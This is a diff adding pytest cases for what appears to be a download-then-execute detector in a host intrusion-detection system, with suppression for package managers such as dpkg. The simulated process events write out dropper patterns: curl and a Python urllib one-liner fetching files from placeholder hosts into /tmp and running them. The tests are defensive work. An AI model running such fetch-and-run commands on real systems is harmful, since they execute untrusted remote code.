@@ -88,13 +88,23 @@ def test_a_download_executed_after_the_window_is_not_linked() -> None:
 
 
 def test_package_managers_are_audited() -> None:
+    """pip writing a console script is no fetcher (it is no download tool); a vendor's
+    maintainer script fetching and running a helper under dpkg is audited."""
     pip = proc("/usr/bin/python3.11", "-m", "pip", "install", "black", pid=850,
                parent=init())
     black = proc("/usr/local/bin/black", pid=851, parent=login_shell(), exe_ino=9)
+    dpkg = proc("/usr/bin/dpkg", "-i", "agent.deb", pid=852, parent=init())
+    post = proc("/usr/bin/dash", "/var/lib/dpkg/info/agent.postinst", pid=853, parent=dpkg)
+    curl = proc("/usr/bin/curl", "-o", "/tmp/helper", "https://vendor.example/h", pid=854,
+                parent=post)
+    helper = proc("/tmp/helper", pid=855, parent=post)
     dets = run(DownloadExecDetector(), [connect(pip, "151.101.0.223", 443, ts=sec(0)),
                                         write(pip, "/usr/local/bin/black", sec(1), ino=9),
-                                        execve(black, sec(10))])
-    assert len(dets) == 1 and dets[0].suppressed.entry == "download_exec.package_managers=pip"
+                                        execve(black, sec(10)),
+                                        connect(curl, "203.0.113.5", 443, ts=sec(11)),
+                                        write(curl, "/tmp/helper", sec(11.5), ino=10),
+                                        execve(helper, sec(12))])
+    assert len(dets) == 1 and dets[0].suppressed.entry == "download_exec.package_managers=dpkg"
 
 
 def test_registered_before_the_miner_detector() -> None:
@@ -102,3 +112,35 @@ def test_registered_before_the_miner_detector() -> None:
     detection names the incident, and the behaviour is the download-and-run."""
     names = list(DETECTORS)
     assert names.index("download_exec") < names.index("crypto_mining")
+
+
+def test_shell_redirect_download_is_opened_before_the_child_becomes_curl() -> None:
+    """`curl URL > /tmp/x`: the forked shell opens /tmp/x, then execs curl (same pid)."""
+    shell = login_shell()
+    child = proc("/usr/bin/bash", pid=860, parent=shell)
+    curl = proc("/usr/bin/curl", "-s", "http://203.0.113.5/x", pid=860, parent=shell)
+    x = proc("/tmp/x", pid=861, parent=shell)
+    dets = run(DownloadExecDetector(), [write(child, "/tmp/x", sec(0)), execve(curl, sec(0.01)),
+                                        connect(curl, "203.0.113.5", 80, ts=sec(0.02)),
+                                        execve(x, sec(1))])
+    assert [d.data["writer"] for d in dets] == ["curl"]
+
+
+def test_long_lived_programs_writing_and_running_their_own_scripts_are_not_droppers() -> None:
+    """A test runner or a build that connected to a local service earlier writes a script
+    and runs it: not a download tool, no inline code, not run from /tmp."""
+    runner = proc("/usr/bin/python3.11", "-m", "pytest", "tests", pid=870, parent=init())
+    job = proc("/usr/bin/python3.11", "/tmp/t/job.py", pid=871, parent=runner)
+    dets = run(DownloadExecDetector(), [connect(runner, "127.0.0.1", 5432, ts=sec(0)),
+                                        write(runner, "/tmp/t/job.py", sec(1)),
+                                        execve(job, sec(2))])
+    assert dets == []
+
+
+def test_a_one_liner_downloader_is_a_fetcher() -> None:
+    py = proc("/usr/bin/python3", "-c", "import urllib.request as u;open('/tmp/s','wb').write("
+              "u.urlopen('http://203.0.113.5/s').read())", pid=880, parent=login_shell())
+    s = proc("/tmp/s", pid=881, parent=login_shell())
+    dets = run(DownloadExecDetector(), [connect(py, "203.0.113.5", 80, ts=sec(0)),
+                                        write(py, "/tmp/s", sec(0.1)), execve(s, sec(1))])
+    assert len(alerts(dets)) == 1
